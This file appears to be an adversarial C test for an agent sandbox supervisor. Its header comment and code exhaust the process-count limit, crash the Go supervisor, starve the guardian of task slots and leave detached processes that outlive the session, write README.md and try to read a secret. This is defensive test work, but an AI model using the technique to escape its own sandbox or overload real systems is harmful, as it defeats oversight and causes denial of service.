// technique: exhaust the user's task budget (RLIMIT_NPROC counts every process and thread of the uid, the supervisor's too) with sleeping processes, then make 130 pre-started threads block in FIFO opens: each hand-off needs a new OS thread in the supervisor, clone fails with EAGAIN and Go aborts (newosproc); if the guardian cannot act either, the processes outlive the session and write README.md. Bounded to 1500 processes: it reaches the limit only under a low RLIMIT_NPROC (TestNprocExhaustion sets one for aixbroker-e2e)
// timeout: 60
#include "lifetime.h"
#include <pthread.h>
#include <sys/mman.h>

#define BLOCKERS 130
#define MAXPROCS 1500

static char fifo[BLOCKERS][600];
static int go_pipe[2];
static volatile int *shared;

static void *blocker(void *arg) {
	long i = (long)arg;
	char c;
	read(go_pipe[0], &c, 1); // untrapped: wait for the start
	int fd = open(fifo[i], O_RDONLY);
	__atomic_fetch_add(&shared[fd >= 0 ? 0 : errno == EAGAIN ? 1 : errno == ENOSYS ? 2 : 3], 1, __ATOMIC_SEQ_CST);
	for (;;) pause();
	return NULL;
}

int main(void) {
	setvbuf(stdout, NULL, _IONBF, 0);
	pid_t agent = getpid();
	adv("SECRET");
	lt_prepare();
	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	char cwd[400];
	if (!getcwd(cwd, sizeof cwd)) return 2;
	for (int i = 0; i < BLOCKERS; i++) {
		snprintf(fifo[i], sizeof fifo[i], "%s/f%d.fifo", cwd, i);
		if (mkfifo(fifo[i], 0600) < 0) { printf("mkfifo: %s\n", strerror(errno)); return 2; }
	}
	pipe(go_pipe);
	pid_t ctl = fork();
	if (ctl == 0) { // the controller: its threads block, it reports
		setsid();
		pthread_attr_t a;
		pthread_attr_init(&a);
		pthread_attr_setstacksize(&a, 64 * 1024);
		int made = 0;
		for (long i = 0; i < BLOCKERS; i++) {
			pthread_t t;
			if (pthread_create(&t, &a, blocker, (void *)i) == 0) made++;
		}
		printf("controller: %d blocking threads ready\n", made);
		pause();
		_exit(0);
	}
	lt_sleep_ms(300);
	int procs = 0;
	for (; procs < MAXPROCS; procs++) {
		pid_t p = fork();
		if (p < 0) { printf("fork %d: %s\n", procs, strerror(errno)); break; }
		if (p == 0) {
			setsid();
			lt_survive(agent, "filler"); // waits for the agent's end, then writes README.md
		}
	}
	printf("fillers: %d processes\n", procs);
	lt_sleep_ms(200);
	for (int i = 0; i < BLOCKERS; i++) write(go_pipe[1], "g", 1);
	// keep the budget full: every task that ends (the supervisor's threads
	// when it aborts) is taken at once, so the guardian cannot get one either
	int grabbed = 0;
	for (long start = 0; start < 4000 && procs + grabbed < MAXPROCS; start++) {
		pid_t p = fork();
		if (p == 0) { setsid(); lt_survive(agent, "grabber"); }
		if (p > 0) grabbed++;
		else lt_sleep_ms(1);
	}
	printf("grabbed %d more task slots\n", grabbed);
	printf("blocking opens: ok %d, EAGAIN %d, ENOSYS %d, other %d\n", shared[0], shared[1], shared[2], shared[3]);
	int fd = open(".adv/world.env", O_RDONLY);
	printf("probe open: %s\n", fd >= 0 ? "answered" : strerror(errno));
	if (fd < 0 && errno == ENOSYS) printf("ADV-LIVENESS-LOST: the supervisor is gone\n");
	try_open("secret", AT_FDCWD, adv("SECRET"), O_RDONLY);
	printf("the agent exits\n");
	return 0;
}
